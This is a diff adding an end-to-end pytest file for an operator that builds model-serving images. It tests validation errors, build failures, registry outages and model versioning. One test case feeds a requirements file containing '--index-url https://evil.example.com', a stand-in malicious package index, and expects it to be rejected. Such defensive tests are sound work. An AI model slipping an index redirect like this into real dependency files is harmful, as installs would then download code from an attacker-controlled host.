@@ -1,0 +1,259 @@
+"""What is wrong with an image's inputs is said before any build; what only a build can tell, after
+one, with the user's own line."""
+
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.e2e.file_server import FileServer
+from tests.e2e.scene import SCRIPT, Manifest, Scene, condition
+
+NO_RUN = "def init():\n    pass\n"
+BROKEN = "def init():\n    pass\n\n\ndef run(data:\n    return data\n"
+GUIDE = """\
+name: project_environment
+dependencies:
+- python=3.6.2
+- pip:
+  - azureml-defaults==1.0.17
+  - ptvsd
+- numpy==1.15.4
+- scikit-learn==0.19.1
+- pandas==0.23.4
+"""
+MISSPELT = """\
+dependencies:
+- python=3.11
+- pip
+- pip:
+  - joblib==1.5.2
+  - scikit-lern==1.9
+"""
+CONDA = {"condaFile": "myenv.yml"}
+
+
+def source(script: str = SCRIPT, **others: str) -> dict[str, str]:
+    named = {name.replace("__", "."): content for name, content in others.items()}
+    return {"score.py": script, **named}
+
+
+CHECKED: dict[str, tuple[dict[str, str], Manifest, str, tuple[str, ...]]] = {
+    "no-script": (
+        {"main.py": SCRIPT},
+        {},
+        "EntryScriptNotFound",
+        ("The source has no file score.py.", "main.py"),
+    ),
+    "broken-script": (source(BROKEN), {}, "EntryScriptInvalid", ("score.py:5", "def run(data:")),
+    "no-run": (source(NO_RUN), {}, "EntryScriptIncomplete", ("score.py", "run()")),
+    "no-environment-file": (source(), CONDA, "SourceFileNotFound", ("myenv.yml", "condaFile")),
+    "no-yaml": (
+        source(myenv__yml="dependencies: [a\nb: {"),
+        CONDA,
+        "EnvironmentFileInvalid",
+        ("myenv.yml:",),
+    ),
+    "the-guides-own-file": (
+        source(myenv__yml=GUIDE),
+        CONDA,
+        "PythonUnsupported",
+        ("myenv.yml:3", "3.10", "numpy", "scikit-learn", "pandas"),
+    ),
+    "an-option-for-pip": (
+        source(requirements__txt="--index-url https://evil.example.com\nnumpy\n"),
+        {"requirementsFile": "requirements.txt"},
+        "EnvironmentFileInvalid",
+        ("requirements.txt:1", "--index-url"),
+    ),
+    "a-step-that-is-not-allowed": (
+        source(**{"Dockerfile__steps": "RUN true\nFROM scratch\n"}),
+        {"dockerFile": "Dockerfile.steps"},
+        "DockerfileStepsInvalid",
+        ("Dockerfile.steps:2", "FROM"),
+    ),
+    "no-model": (source(), {"models": [{"name": "nobody"}]}, "ModelNotFound", ("'nobody'",)),
+    "no-config-map": ({}, {"source": {"configMap": {"name": "nothing"}}}, "ConfigMapNotFound",
+                      ("ConfigMap 'nothing' does not exist",)),
+}  # fmt: skip
+BUILT: dict[str, tuple[dict[str, str], Manifest, str, tuple[str, ...]]] = {
+    "no-package": (
+        source(myenv__yml=MISSPELT),
+        CONDA,
+        "PackageNotFound",
+        ("myenv.yml:6 asks for scikit-lern==1.9", "Did you mean scikit-learn?"),
+    ),
+    "no-base-image": (
+        source(),
+        {"baseImage": "localhost:5000/fairlead/nothing:1"},
+        "BaseImageNotFound",
+        ("localhost:5000/fairlead/nothing:1",),
+    ),
+    "another-python": (
+        source(myenv__yml="dependencies:\n- python=3.12\n"),
+        CONDA,
+        "PythonUnavailable",
+        ("myenv.yml:2", "3.12", "3.11"),
+    ),
+    "a-step-that-fails": (
+        source(**{"Dockerfile__steps": "RUN true\nRUN no-such-program --at-all\n"}),
+        {"dockerFile": "Dockerfile.steps"},
+        "StepFailed",
+        ("Dockerfile.steps:2", "no-such-program"),
+    ),
+    "a-registry-that-is-down": (
+        source(),
+        {"repository": "localhost:5999/demo/diabetes"},
+        "RegistryUnreachable",
+        ("localhost:5999",),
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def images(stage: Scene) -> Scene:
+    """All of them applied at once: none may keep another from its end."""
+    for name, (files, spec, *_) in {**CHECKED, **BUILT}.items():
+        stage.image(files, name, **spec)
+    stage.image(name="good")
+    return stage
+
+
+@pytest.mark.parametrize("name", CHECKED)
+def test_a_mistake_is_said_before_any_build(images: Scene, name: str) -> None:
+    _, _, reason, words = CHECKED[name]
+    status = images.reason("inferenceimage", reason, name)
+    for word in words:
+        assert word in status["failure"]["message"]
+    assert status["failure"]["remedy"]
+    assert "build" not in status
+    assert images.columns("inferenceimage", name)["REASON"] == reason
+
+
+@pytest.mark.parametrize("name", BUILT)
+def test_what_only_a_build_can_tell_names_the_users_own_line(images: Scene, name: str) -> None:
+    _, _, reason, words = BUILT[name]
+    failure = images.reason("inferenceimage", reason, name)["failure"]
+    for word in words:
+        assert word in failure["message"]
+    assert failure["remedy"]
+    [event] = [e for e in images.events("InferenceImage", name) if e.startswith("Warning")]
+    assert event.startswith(f"Warning {reason}: {failure['message'][:40]}")
+
+
+def test_all_the_others_failures_keep_no_good_image_from_its_end(images: Scene) -> None:
+    assert images.reason("inferenceimage", "Built", "good")["version"] == 1
+
+
+def test_a_failed_build_has_a_log_and_counts_as_a_version(images: Scene) -> None:
+    status = images.reason("inferenceimage", "PackageNotFound", "no-package")
+    assert (status["build"]["id"], status["creationState"]) == ("1-1", "Failed")
+    assert images.columns("inferenceimage", "no-package")["BUILD"].endswith("s")
+    log = httpx.get(status["failure"]["logUri"])
+    assert "No matching distribution found for scikit-lern==1.9" in log.text
+    kept = httpx.get(f"http://localhost:5000/v2/{images.namespace}/no-package/tags/list")
+    assert kept.json()["tags"] == ["log-1-1"]
+
+
+def test_an_outage_says_when_it_is_tried_next(images: Scene) -> None:
+    status = images.reason("inferenceimage", "RegistryUnreachable", "a-registry-that-is-down")
+    assert status["failure"]["nextRetryAt"]
+    assert condition(status, "Reconciling")["reason"] == "RegistryUnreachable"
+    assert condition(status, "Stalled")["reason"] is None
+
+
+def test_a_registry_that_refuses_is_told_from_one_that_is_down(
+    scene: Scene, files: FileServer
+) -> None:
+    refusing = files.base.removeprefix("http://")
+    scene.image(repository=f"{refusing}/demo/diabetes")
+    status = scene.until(
+        lambda: scene.get("inferenceimage").get("status", {}), lambda s: s.get("failure")
+    )
+    assert refusing in status["failure"]["message"]
+    assert status["failure"]["reason"] in ("RegistryDenied", "RegistryFault")
+
+
+def test_an_index_that_is_down_is_not_the_users_fault_and_is_tried_again(scene: Scene) -> None:
+    scene.operator.restart(FAIRLEAD_PACKAGE_INDEX="http://127.0.0.1:9/simple")
+    scene.image(source(requirements__txt="six==1.17.0\n"), requirementsFile="requirements.txt")
+    failure = scene.reason("inferenceimage", "PackageIndexUnreachable")["failure"]
+    assert (failure["class"], "nextRetryAt" in failure) == ("Network", True)
+    scene.operator.restart()
+    status = scene.reason("inferenceimage", "Built")
+    assert status["version"] == 1
+    assert int(status["build"]["id"].partition("-")[2]) > 1
+
+
+def test_a_mended_file_is_the_next_version_and_the_failure_is_gone(scene: Scene) -> None:
+    scene.image(source(myenv__yml=MISSPELT), **CONDA)
+    scene.reason("inferenceimage", "PackageNotFound")
+    scene.image(source(myenv__yml=MISSPELT.replace("  - scikit-lern==1.9\n", "")), **CONDA)
+    status = scene.reason("inferenceimage", "Built")
+    assert (status["version"], status.get("failure")) == (2, None)
+
+
+def test_a_broken_version_leaves_the_one_before_in_use(scene: Scene) -> None:
+    scene.image()
+    good = scene.reason("inferenceimage", "Built")
+    scene.image(source(myenv__yml=MISSPELT), **CONDA)
+    status = scene.reason("inferenceimage", "PackageNotFound")
+    assert status["imageDigest"] == good["imageDigest"]
+    assert status["failure"]["message"].endswith("Version 2 failed; version 1 stays in use.")
+    assert scene.columns("inferenceimage")["IMAGE"].endswith("/diabetes:1")
+
+
+def test_images_of_one_environment_build_it_once(scene: Scene) -> None:
+    files = source(requirements__txt="six==1.17.0\n")
+    spec: dict[str, Any] = {"requirementsFile": "requirements.txt"}
+    for name in ("one", "two", "three"):
+        scene.image({**files, "name.txt": name}, name, **spec)
+    seen = [scene.reason("inferenceimage", "Built", name) for name in ("one", "two", "three")]
+    assert len({status["environment"]["image"] for status in seen}) == 1
+    assert len([s for s in seen if s["build"].get("durations", {}).get("environment")]) == 1
+    repository = f"http://localhost:5000/v2/{scene.namespace}/fairlead/environments/tags/list"
+    assert len(httpx.get(repository).json()["tags"]) == 1
+
+
+def test_an_image_waits_for_its_model_and_follows_its_latest_version(scene: Scene) -> None:
+    scene.image(models=[{"name": "weights"}])
+    scene.reason("inferenceimage", "ModelNotFound")
+    scene.apply("Model", {"source": {"configMap": {"name": "weights"}}}, "weights")
+    waiting = scene.reason("inferenceimage", "WaitingForModel")
+    assert "ConfigMap 'weights' does not exist" in waiting["failure"]["message"]
+    scene.config_map("weights", model__json="1")
+    first = scene.reason("inferenceimage", "Built")
+    scene.config_map("weights", model__json="2")
+    second = scene.until(
+        lambda: scene.get("inferenceimage")["status"], lambda s: s.get("version") == 2
+    )
+    assert first["imageDigest"] != second["imageDigest"]
+
+
+def test_a_version_that_the_model_does_not_have_is_named_with_those_it_has(scene: Scene) -> None:
+    scene.config_map("weights", model__json="1")
+    scene.apply("Model", {"source": {"configMap": {"name": "weights"}}}, "weights")
+    scene.reason("model", "Stored", "weights")
+    scene.image(models=[{"name": "weights", "version": 3}])
+    status = scene.reason("inferenceimage", "ModelVersionNotFound")
+    assert status["failure"]["message"] == "Model 'weights' has no version 3; it has 1."
+
+
+def test_an_image_that_is_deleted_while_it_builds_ends_its_build(scene: Scene) -> None:
+    slow = {"Dockerfile.steps": "RUN sleep 300\n", "score.py": SCRIPT}
+    scene.image(slow, dockerFile="Dockerfile.steps")
+    scene.reason("inferenceimage", "BuildingEnvironment")
+    scene.until(scene.containers, lambda names: any("sleep 300" in name for name in names))
+    scene.kubectl("delete", "inferenceimage", "diabetes", "--timeout=30s")
+    scene.until(scene.containers, lambda names: not any("sleep 300" in name for name in names))
+    scene.image(name="next")
+    scene.reason("inferenceimage", "Built", "next")
+
+
+def test_a_build_whose_inputs_moved_on_is_ended(scene: Scene) -> None:
+    slow = {"Dockerfile.steps": "RUN sleep 301\n", "score.py": SCRIPT}
+    scene.image(slow, dockerFile="Dockerfile.steps")
+    scene.until(scene.containers, lambda names: any("sleep 301" in name for name in names))
+    scene.image()
+    scene.until(scene.containers, lambda names: not any("sleep 301" in name for name in names))
+    assert scene.reason("inferenceimage", "Built")["version"] == 2
